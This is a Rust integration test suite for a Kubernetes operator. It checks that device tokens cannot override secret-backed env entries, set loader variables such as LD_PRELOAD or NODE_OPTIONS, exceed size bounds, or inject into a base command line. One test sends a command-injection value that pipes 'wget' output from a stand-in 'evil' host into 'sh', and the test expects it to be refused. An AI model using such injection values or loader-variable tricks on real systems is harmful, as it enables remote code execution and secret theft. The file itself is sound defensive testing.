//! R32, R8, R9: what a Mutation's own token, the one on every device,
//! can do to its variants. Its env values reach the containers literally, it cannot replace a
//! base entry that comes from elsewhere (`valueFrom`), it cannot set the variables that change
//! how a process loads or starts unless the owner lists them, the owner can narrow it to a
//! list of names, and it is bounded (instances, variants, env entries, value length), while
//! every writer is bounded by the CRD's hard maxima. A Mutation name the operator cannot serve
//! and a variant on someone else's Deployment name are refused up front.

use k8s_openapi::api::core::v1::Secret;
use kube::api::PostParams;
use serde_json::json;

use super::*;

/// Merge-patches the Mutation's `spec.deviceAccess`, as its owner would with kubectl, and
/// waits until this replica's cache shows it (a validated read).
pub(super) async fn set_device_access(f: &Fixture, name: &str, access: Value) {
    f.mutations()
        .patch(
            name,
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"deviceAccess": access}})),
        )
        .await
        .unwrap();
    let path = format!("/api/v1/namespaces/{}/mutations/{name}", f.ns.name);
    let reply = common::http::Request::new("GET", &path, Some(ADMIN), None)
        .headers(&[("Cache-Control", "no-cache")])
        .send(f.operator.api_port)
        .await;
    assert_eq!(reply.status, 200, "{reply:?}");
}

/// R32: values are literal, valueFrom entries and start-up variables are refused to the
/// token (403 naming the variable) and not to the admin, the owner's list narrows and allows,
/// and docs/api.md's walk-through (FEATURE_X) still works.
#[tokio::test]
#[ignore = "needs a cluster: scripts/test runs them"]
async fn a_device_token_sets_literal_values_and_only_what_its_owner_allows() {
    let f = Fixture::with_api("api-device-env").await;
    let mut b = base("web");
    b["spec"]["template"]["spec"]["containers"][0]["env"] = json!([
        { "name": "BASE", "value": "1" },
        { "name": "DB_PASSWORD", "valueFrom": { "secretKeyRef": {
            "name": "db", "key": "password", "optional": true } } },
        { "name": "POD_NAME", "valueFrom": { "fieldRef": { "fieldPath": "metadata.name" } } }
    ]);
    let create = json!({"name": "web", "deployment": b, "variants": []});
    let created = f
        .call("POST", "/mutations", Some(ADMIN), Some(&create))
        .await;
    assert_eq!(created.status, 201, "{created:?}");
    let token = f.token("web").await;
    let add = async |who: &str, label: &str, env: Value| {
        let body = json!({"label": label, "env": env, "instances": 0});
        f.add_variant("web", who, &body).await
    };

    // The walk-through's variant.
    let beta = add(&token, "beta", json!({"FEATURE_X": "on"})).await;
    assert_eq!(beta.status, 201, "{beta:?}");

    // A value that names another variable is answered and run as sent: the Deployment holds
    // it escaped, which the kubelet turns back into the value sent, never the Secret's.
    let copy = add(&token, "copy", json!({"TITLE": "$(DB_PASSWORD)"})).await;
    assert_eq!(copy.status, 201, "{copy:?}");
    assert_eq!(copy.json()["env"]["TITLE"], "$(DB_PASSWORD)");
    let d = f.wait_deployment("web-copy", "created", |_| true).await;
    let env = env_of(&d);
    assert!(
        env.contains(&("TITLE".to_string(), "$$(DB_PASSWORD)".to_string())),
        "the value must be written escaped: {env:?}"
    );
    let read = f
        .call("GET", "/mutations/web/variants/copy", Some(&token), None)
        .await;
    assert_eq!(read.json()["env"]["TITLE"], "$(DB_PASSWORD)", "{read:?}");

    // Base entries from a Secret or a field: never replaced by the token.
    for name in ["DB_PASSWORD", "POD_NAME"] {
        let reply = add(&token, "steal", json!({ name: "literal" })).await;
        assert_eq!(reply.status, 403, "{name}: {reply:?}");
        let e = reply.error();
        assert!(
            e.contains(&format!("{name:?}")) && e.contains("valueFrom"),
            "{name}: {e}"
        );
    }
    // Variables that change how a process loads or starts: refused to the token.
    for name in [
        "LD_PRELOAD",
        "BASH_ENV",
        "JAVA_TOOL_OPTIONS",
        "NODE_OPTIONS",
        "PYTHONPATH",
        "PATH",
    ] {
        let reply = add(&token, "boot", json!({ name: "x", "FEATURE_X": "on" })).await;
        reply.assert_refused(403, &[&format!("{name:?}")]);
    }
    // The admin token is not held to these rules.
    let admin = add(
        ADMIN,
        "admin",
        json!({"LD_PRELOAD": "/usr/lib/libjemalloc.so"}),
    )
    .await;
    assert_eq!(admin.status, 201, "{admin:?}");

    // The owner lists what devices may set, a start-up variable included.
    set_device_access(&f, "web", json!({"env": ["FEATURE_X", "NODE_OPTIONS"]})).await;
    let node = add(
        &token,
        "node",
        json!({"NODE_OPTIONS": "--max-old-space-size=64"}),
    )
    .await;
    assert_eq!(node.status, 201, "{node:?}");
    let feature = add(&token, "feature", json!({"FEATURE_X": "off"})).await;
    assert_eq!(feature.status, 201, "{feature:?}");
    let snap = add(&token, "snap", json!({"SNAP_RES": "1280x800"})).await;
    snap.assert_refused(403, &["\"SNAP_RES\"", "spec.deviceAccess.env"]);
    let steal = add(&token, "steal", json!({"DB_PASSWORD": "x"})).await;
    assert_eq!(steal.status, 403, "{steal:?}");

    // Exactly the accepted variants are in the spec.
    assert_eq!(
        f.spec_labels("web").await,
        ["beta", "copy", "admin", "node", "feature"]
    );
}

/// R32: the token's bounds, their refusals naming the bound, the owner moving them;
/// the admin held only to the hard maxima, which the API server (kubectl) enforces too.
#[tokio::test]
#[ignore = "needs a cluster: scripts/test runs them"]
async fn device_tokens_are_bounded_and_the_crd_carries_the_hard_maxima() {
    let f = Fixture::with_api("api-device-bounds").await;
    let create = json!({"name": "web", "deployment": base("web"), "variants": []});
    let created = f
        .call("POST", "/mutations", Some(ADMIN), Some(&create))
        .await;
    assert_eq!(created.status, 201, "{created:?}");
    let token = f.token("web").await;
    let post = async |who: &str, body: Value| f.add_variant("web", who, &body).await;
    let refused = |reply: &common::http::Reply, status: u16, words: &[&str]| {
        reply.assert_refused(status, words)
    };

    let r = post(&token, json!({"label": "big", "instances": 11})).await;
    refused(&r, 403, &["instances 11", "at most 10", "maxInstances"]);
    let r = post(&token, json!({"label": "v0", "instances": 0})).await;
    assert_eq!(r.status, 201, "{r:?}");
    let r = f
        .call(
            "PATCH",
            "/mutations/web/variants/v0",
            Some(&token),
            Some(&json!({"instances": 11})),
        )
        .await;
    refused(&r, 403, &["instances 11", "at most 10"]);
    let many: serde_json::Map<String, Value> =
        (0..33).map(|i| (format!("V{i}"), json!("x"))).collect();
    let r = post(&token, json!({"label": "env", "env": many, "instances": 0})).await;
    refused(&r, 403, &["33 entries", "at most 32", "maxEnv"]);
    let long = "x".repeat(4097);
    let r = post(
        &token,
        json!({"label": "long", "env": {"TITLE": long}, "instances": 0}),
    )
    .await;
    refused(
        &r,
        403,
        &["\"TITLE\"", "4097", "at most 4096", "maxValueLength"],
    );
    for i in 1..20 {
        let r = post(&token, json!({"label": format!("v{i}"), "instances": 0})).await;
        assert_eq!(r.status, 201, "v{i}: {r:?}");
    }
    let r = post(&token, json!({"label": "v20", "instances": 0})).await;
    refused(&r, 403, &["has 20", "fewer than 20", "maxVariants"]);

    // The admin: past the token's bounds, within the hard maxima.
    let r = post(ADMIN, json!({"label": "v20", "instances": 0})).await;
    assert_eq!(r.status, 201, "{r:?}");
    let r = post(ADMIN, json!({"label": "huge", "instances": 1001})).await;
    refused(&r, 400, &["instances 1001", "at most 1000"]);
    let r = f
        .call(
            "PATCH",
            "/mutations/web/variants/v0",
            Some(ADMIN),
            Some(&json!({"instances": 1001})),
        )
        .await;
    refused(&r, 400, &["at most 1000"]);

    // The owner moves the bounds.
    set_device_access(&f, "web", json!({"maxVariants": 30, "maxInstances": 2})).await;
    let r = post(&token, json!({"label": "v21", "instances": 0})).await;
    assert_eq!(r.status, 201, "{r:?}");
    let scale = async |instances: i32| {
        f.call(
            "PATCH",
            "/mutations/web/variants/v21",
            Some(&token),
            Some(&json!({"instances": instances})),
        )
        .await
    };
    refused(
        &scale(3).await,
        403,
        &["at most 2 (spec.deviceAccess.maxInstances)"],
    );
    assert_eq!(scale(2).await.status, 200);
    let m = f.mutations().get("web").await.unwrap();
    assert_eq!(m.spec.variants.len(), 22);

    // kubectl (any writer of the object) meets the hard maxima in the CRD's schema.
    let refused_by_server = async |variants: Value, access: Value, words: &[&str]| {
        let mut manifest = mutation("direct", base("direct"), variants);
        manifest["spec"]["deviceAccess"] = access;
        let object: Mutation = common::from_json(manifest);
        match f.mutations().create(&PostParams::default(), &object).await {
            Err(kube::Error::Api(status)) => {
                assert_eq!(status.code, 422, "{status:?}");
                for word in words {
                    assert!(
                        status.message.contains(word),
                        "{word:?}: {}",
                        status.message
                    );
                }
            }
            other => panic!("the API server accepted it: {other:?}"),
        }
    };
    refused_by_server(
        json!([{"label": "a", "instances": 1001}]),
        json!({}),
        &["instances", "1000"],
    )
    .await;
    let env: serde_json::Map<String, Value> =
        (0..257).map(|i| (format!("V{i}"), json!(""))).collect();
    refused_by_server(json!([{"label": "a", "env": env}]), json!({}), &["256"]).await;
    refused_by_server(
        json!([{"label": "a", "env": {"X".repeat(129): "1"}}]),
        json!({}),
        &["env names must be at most 128 characters"],
    )
    .await;
    refused_by_server(
        json!([{"label": "a", "env": {"X": "y".repeat(32769)}}]),
        json!({}),
        &["32768"],
    )
    .await;
    let variants: Vec<Value> = (0..501)
        .map(|i| json!({"label": format!("v{i}")}))
        .collect();
    refused_by_server(json!(variants), json!({}), &["500"]).await;
    refused_by_server(json!([]), json!({"maxInstances": 1001}), &["1000"]).await;
}

/// R8, R24: a Mutation name longer than 63 characters (so no owner label value) is
/// 400 at the API; one made with kubectl is reported Invalid in its status, and the controller
/// does not fail on it over and over.
#[tokio::test]
#[ignore = "needs a cluster: scripts/test runs them"]
async fn an_unservable_mutation_name_is_refused_and_reported_invalid() {
    let f = Fixture::with_api("api-long-name").await;
    // A DNS-1123 subdomain of 70 characters: valid as an object name, not as a label value.
    let long = format!("{}.{}", "m".repeat(40), "n".repeat(29));
    let create = json!({"name": long, "deployment": base("web"), "variants": [{"label": "a"}]});
    let reply = f
        .call("POST", "/mutations", Some(ADMIN), Some(&create))
        .await;
    assert_eq!(reply.status, 400, "{reply:?}");
    let e = reply.error();
    assert!(e.contains("70 characters") && e.contains("63"), "{e}");
    assert!(f.mutations().get_opt(&long).await.unwrap().is_none());

    // Made with kubectl: reported, not reconciled in a loop.
    f.apply::<Mutation>(&mutation(
        &long,
        base("web"),
        json!([{ "label": "a", "instances": 1 }]),
    ))
    .await;
    let status = f
        .wait_status::<Mutation>(&long, "reported invalid", |s| {
            s.variants.len() == 1 && s.message.is_some()
        })
        .await;
    assert_eq!(status.variants[0].state, VariantState::Invalid);
    let message = status.message.clone().unwrap_or_default();
    assert!(
        message.contains("70 characters") && message.contains("at most 63"),
        "{message}"
    );
    assert!(
        status.variants[0]
            .message
            .as_deref()
            .unwrap_or_default()
            .contains("at most 63"),
        "{status:?}"
    );
    assert_eq!(status.conditions[0].status, "False");
    assert_eq!(status.conditions[0].reason, "InvalidName");
    assert_eq!(status.secret, None);
    let secrets: Api<Secret> = f.ns.api();
    assert!(
        secrets
            .get_opt(&format!("{long}-secret"))
            .await
            .unwrap()
            .is_none()
    );
    assert!(f.deployments().get_opt("web-a").await.unwrap().is_none());
    // Its reconciles succeed: no failure is logged for it.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let log = f.operator.log_text();
    let failures: Vec<&str> = log
        .lines()
        .filter(|l| l.contains("reconcile failed") && l.contains(&long))
        .collect();
    assert!(failures.is_empty(), "{failures:#?}");
}

/// R9, R19: adding a variant whose Deployment name belongs to someone else
/// is 409, for the admin and the token, whether the operator caches that Deployment (another
/// owner's) or only the API server's dry run knows it (nobody's); nothing is written.
#[tokio::test]
#[ignore = "needs a cluster: scripts/test runs them"]
async fn a_variant_on_someone_elses_deployment_name_is_409() {
    let f = Fixture::with_api("api-taken").await;
    // web-taken belongs to nobody (and carries no label of the operator: it is not cached).
    let mut plain = base("web-taken");
    plain["spec"]["replicas"] = json!(0);
    let nobodys: Deployment = common::from_json(plain);
    let nobodys = f
        .deployments()
        .create(&PostParams::default(), &nobodys)
        .await
        .unwrap();
    // web-theirs belongs to Mutation "other" (cached: it carries the operator's labels).
    let other = json!({"name": "other", "deployment": base("web"),
                       "variants": [{"label": "theirs", "instances": 0}]});
    let r = f
        .call("POST", "/mutations", Some(ADMIN), Some(&other))
        .await;
    assert_eq!(r.status, 201, "{r:?}");
    f.wait_deployment("web-theirs", "created", |_| true).await;

    let create = json!({"name": "web", "deployment": base("web"), "variants": []});
    let r = f
        .call("POST", "/mutations", Some(ADMIN), Some(&create))
        .await;
    assert_eq!(r.status, 201, "{r:?}");
    let token = f.token("web").await;
    for who in [token.as_str(), ADMIN] {
        for (label, whose) in [("taken", "has no controller"), ("theirs", "\"other\"")] {
            let body = json!({"label": label, "instances": 0});
            let r = f.add_variant("web", who, &body).await;
            assert_eq!(r.status, 409, "{label}: {r:?}");
            let e = r.error();
            assert!(
                e.contains(&format!("web-{label}")) && e.contains(whose),
                "{label}: {e}"
            );
        }
    }
    // Creating a Mutation with such a variant: 409, and no Mutation.
    let third = json!({"name": "third", "deployment": base("web"),
                       "variants": [{"label": "taken", "instances": 0}]});
    let r = f
        .call("POST", "/mutations", Some(ADMIN), Some(&third))
        .await;
    assert_eq!(r.status, 409, "{r:?}");
    assert!(f.mutations().get_opt("third").await.unwrap().is_none());
    // Nothing was written; a free label still works.
    let m = f.mutations().get("web").await.unwrap();
    assert!(m.spec.variants.is_empty(), "{:?}", m.spec.variants);
    let r = f
        .call(
            "POST",
            "/mutations/web/variants",
            Some(&token),
            Some(&json!({"label": "free", "instances": 0})),
        )
        .await;
    assert_eq!(r.status, 201, "{r:?}");
    let after = f.deployments().get("web-taken").await.unwrap();
    assert_eq!(after.metadata.generation, nobodys.metadata.generation);
    assert_eq!(controller_of(&after), None);
}

/// R41: a base that passes `$(TITLE)` to its command line, as Kubernetes
/// documents it: a device's TITLE would run as part of the command, so the token may not set
/// it (403 naming the variable and the container) until the owner lists it; the admin may. A
/// base that starts passing a name later holds back the token's variants that set it.
#[tokio::test]
#[ignore = "needs a cluster: scripts/test runs them"]
async fn a_name_on_the_base_command_line_is_not_a_devices_to_set() {
    let f = Fixture::with_api("api-device-cmdline").await;
    let mut b = base("web");
    b["spec"]["template"]["spec"]["containers"][0]["command"] =
        json!(["sh", "-c", "exec snap --title $(TITLE)"]);
    let create = json!({"name": "web", "deployment": b, "variants": []});
    let created = f
        .call("POST", "/mutations", Some(ADMIN), Some(&create))
        .await;
    assert_eq!(created.status, 201, "{created:?}");
    let token = f.token("web").await;
    let evil = json!({"label": "evil", "instances": 0,
                      "env": {"TITLE": "x; wget -qO- http://evil/p | sh"}});
    let refused = f.add_variant("web", &token, &evil).await;
    assert_eq!(refused.status, 403, "{refused:?}");
    let error = refused.json()["error"].as_str().unwrap().to_owned();
    assert!(
        error.contains("$(TITLE)") && error.contains("\"app\""),
        "{error}"
    );
    assert_eq!(f.spec_labels("web").await, Vec::<String>::new());
    // Other names are still the token's to set; the admin may set TITLE.
    let fine = json!({"label": "fine", "instances": 0, "env": {"SCREEN": "portrait"}});
    assert_eq!(f.add_variant("web", &token, &fine).await.status, 201);
    let admin = json!({"label": "admin", "instances": 0, "env": {"TITLE": "lobby"}});
    assert_eq!(f.add_variant("web", ADMIN, &admin).await.status, 201);
    // The base changed later to pass $(SCREEN) too: the token's variant that sets SCREEN is
    // held back as Invalid, naming it, and keeps its Deployment as it was; the admin's is not.
    f.wait_deployment("web-fine", "created", |_| true).await;
    let mut changed = base("web");
    changed["spec"]["template"]["spec"]["containers"][0]["command"] =
        json!(["sh", "-c", "exec snap --title $(TITLE) --screen $(SCREEN)"]);
    f.mutations()
        .patch(
            "web",
            &PatchParams::default(),
            &Patch::Merge(json!({"spec": {"deployment": changed}})),
        )
        .await
        .unwrap();
    let status = f
        .wait_status::<Mutation>("web", "the token's variant held back", |s| {
            s.variants.iter().any(|v| {
                v.label == "fine"
                    && v.state == VariantState::Invalid
                    && v.message
                        .as_deref()
                        .is_some_and(|m| m.contains("$(SCREEN)"))
            })
        })
        .await;
    let admin_state = status
        .variants
        .iter()
        .find(|v| v.label == "admin")
        .map(|v| v.state);
    assert_ne!(admin_state, Some(VariantState::Invalid), "{status:?}");
    let kept = f.deployments().get("web-fine").await.unwrap();
    let command = kept.spec.unwrap().template.spec.unwrap().containers[0]
        .command
        .clone();
    assert_eq!(
        command,
        Some(vec![
            "sh".into(),
            "-c".into(),
            "exec snap --title $(TITLE)".into()
        ])
    );
    // Listed by the owner: allowed, and what listing it means is the owner's call.
    set_device_access(&f, "web", json!({"env": ["TITLE", "SCREEN"]})).await;
    f.wait_status::<Mutation>("web", "the token's variant applied again", |s| {
        s.variants
            .iter()
            .any(|v| v.label == "fine" && v.state != VariantState::Invalid)
    })
    .await;
    let listed = json!({"label": "listed", "instances": 0, "env": {"TITLE": "hall"}});
    let added = f.add_variant("web", &token, &listed).await;
    assert_eq!(added.status, 201, "{added:?}");
}
